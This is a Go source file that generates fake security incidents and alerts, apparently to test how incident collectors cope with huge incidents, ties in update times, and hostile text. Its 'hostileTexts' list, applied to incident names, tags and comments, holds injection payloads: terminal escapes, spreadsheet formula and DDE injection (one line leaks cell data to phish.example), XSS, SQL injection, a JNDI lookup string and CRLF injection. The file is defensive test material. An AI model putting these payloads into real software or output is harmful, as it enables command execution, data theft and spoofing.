package world

import (
	"fmt"
	"slices"
	"strconv"
	"strings"
	"time"
)

// MaxAlerts is the most alerts that a world file may ask for in one incident,
// and beside all incidents.
const MaxAlerts = 20_000

// freshScene is a scene that is no part of the numbered past: words choose what
// happens in it.
func (tl *tale) freshScene(words ...string) *scene {
	words = append([]string{"fresh", tl.tenant.ID, strconv.FormatUint(tl.tenant.Incidents.Seed, 10)}, words...)
	d := newDice(words...)
	s := &scene{tale: tl, d: d, story: &tl.stories[d.r.IntN(len(tl.stories))], salt: strings.Join(words, " ")}
	s.life = d.between(0, 99)
	return s
}

// alone tells the alerts that belong to no incident, the latest created first.
func (tl *tale) alone() []*Alert {
	all := make([]*Alert, 0, tl.tenant.Incidents.Standalone)
	for i := range tl.tenant.Incidents.Standalone {
		s := tl.freshScene("alone", strconv.Itoa(i))
		s.begin = tl.epoch.Add(-age(i) - s.d.span(0, (age(i+1)-age(i))/2))
		s.cast()
		if s.mail != nil {
			tl.inventory.Mails = append(tl.inventory.Mails, s.mail)
		}
		a := s.alert(&s.story.steps[s.d.r.IntN(len(s.story.steps))], s.begin)
		if s.life >= lifeActive {
			a.Status, a.AssignedTo = "inProgress", s.analyst().UPN
			a.LastUpdate = s.soon(a.LastUpdate, 5*time.Minute, 6*time.Hour)
		}
		if s.life >= lifeInProgress {
			v := pick(s.d, s.story.verdicts)
			a.LastUpdate = s.soon(a.LastUpdate, 20*time.Minute, 5*24*time.Hour)
			a.Status, a.Classification, a.Determination, a.Resolved = "resolved", v.classification, v.determination, a.LastUpdate
		}
		all = append(all, a)
	}
	if tl.tenant.Incidents.Hostile {
		for i, a := range all {
			a.Title = hostileText(a.Title, i)
		}
	}
	slices.SortFunc(all, latestAlert)
	return all
}

// big tells one incident of n alerts: an attack that runs for three days over
// every workstation. Collectors that read an incident whole must stand it.
func (tl *tale) big(id int64, n int) *Incident {
	s := tl.freshScene("big")
	s.story = &tl.stories[0]
	s.begin = tl.epoch.Add(-4 * 24 * time.Hour)
	s.cast()
	if s.mail != nil {
		tl.inventory.Mails = append(tl.inventory.Mails, s.mail)
	}
	in := &Incident{
		ID: id, Name: fmt.Sprintf("%s in %d alerts", s.story.title, n), Description: s.story.description,
		Status: "active", Classification: "unknown", Determination: "unknown", LastModifiedBy: byCreation,
		Alerts: make([]*Alert, 0, n),
	}
	salt, every := s.salt, 3*24*time.Hour/time.Duration(n)
	for i := range n {
		s.salt = salt + " " + strconv.Itoa(i)
		s.device = tl.inventory.Devices[i/len(s.story.steps)%inventoryWorkstations]
		s.victim = s.device.LoggedOnUser
		a := s.alert(&s.story.steps[i%len(s.story.steps)], s.begin.Add(time.Duration(i)*every))
		a.IncidentID = id
		in.Alerts = append(in.Alerts, a)
		in.LastUpdate = later(in.LastUpdate, a.LastUpdate)
		in.raise(a)
	}
	in.Created = in.Alerts[0].Created.Add(s.d.span(2*time.Second, 90*time.Second))
	in.LastUpdate = later(in.LastUpdate, in.Created)
	in.Summary = fmt.Sprintf("%s It was seen in %d alerts.", s.story.description, n)
	in.PriorityScore = 100
	return in
}

// groupSizes are how many incidents share a last update, over and over. One
// group is larger than a page of Graph, so that a collector that asks for what
// is later than the last it saw loses some.
var groupSizes = [...]int{2, 7, 60}

func equalTimes(all []*Incident) {
	sorted := slices.Clone(all)
	slices.SortFunc(sorted, newestFirst)
	for group := 0; len(sorted) > 0; group++ {
		n := min(groupSizes[group%len(groupSizes)], len(sorted))
		for _, in := range sorted[:n] {
			in.LastUpdate = sorted[0].LastUpdate
		}
		sorted = sorted[n:]
	}
}

// hostileTexts harm whoever shows them as they are. %s is a harmless text.
// All are valid UTF-8, as Microsoft's JSON is.
var hostileTexts = [...]string{
	"\x1b[2J\x1b[1;31m%s\x1b[0m",                                    // clears a terminal
	"\x1b]0;owned\x07%s",                                            // sets its title
	"\x1b]8;;https://phish.example/\x07%s\x1b]8;;\x07",              // a link that shows another text
	"\u009b31m%s\u009b0m",                                           // C1 control sequence introducer
	"=HYPERLINK(\"https://phish.example/?leak=\"&A1,\"%s\")",        // a formula in a spreadsheet
	"+cmd|' /C calc'!A0 %s",                                         // the same, by DDE
	"@SUM(1+1)*%s",                                                  // and by other first characters
	"-2+3 %s",                                                       //
	"<script>alert('%s')</script>",                                  // HTML
	"<img src=x onerror=alert(1)> %s",                               //
	"%s \u202etxt.exe\u202c",                                        // reads from right to left
	"\u2066%s\u2069 \u200b\u200d\ufeff",                             // isolates, and characters without width
	"%s\r\nSet-Cookie: a=b\r\n\tid,name,severity",                   // new lines and tabs
	"%s \x00\x07\x08\x7f",                                           // other control characters
	"'; DROP TABLE incidents; -- %s",                                //
	"${jndi:ldap://phish.example/a} {{7*7}} %%s%%n %s",              // templates and formats
	"\"%s\", \"id\": \"0\", \"",                                     // JSON in JSON
	"%s \U0001f3f4\u200d\u2620\ufe0f Z\u0351\u036b\u0343a\u0328lgo", // clusters of many code points
	"＝1+1 %s",      // full-width, which some spreadsheets read as =
	"＋1+1 %s",      //
	"－2+3 %s",      //
	"＠SUM(1+1) %s", //
}

func hostileText(harmless string, i int) string {
	return fmt.Sprintf(hostileTexts[i%len(hostileTexts)], harmless)
}

// makeHostile gives every incident a text of the list, each in turn.
func makeHostile(all []*Incident) {
	for i, in := range all {
		in.Name = hostileText(in.Name, i)
		in.Description = hostileText(in.Description, i+1)
		in.Tags = append(in.Tags, hostileText("tag", i+2))
		in.Comments = append(in.Comments, Comment{Text: hostileText("comment", i+3), By: hostileText("analyst", i+4), Created: in.LastUpdate})
		for j, a := range in.Alerts {
			a.Title = hostileText(a.Title, i+j+5)
			a.Description = hostileText(a.Description, i+j+6)
		}
	}
}
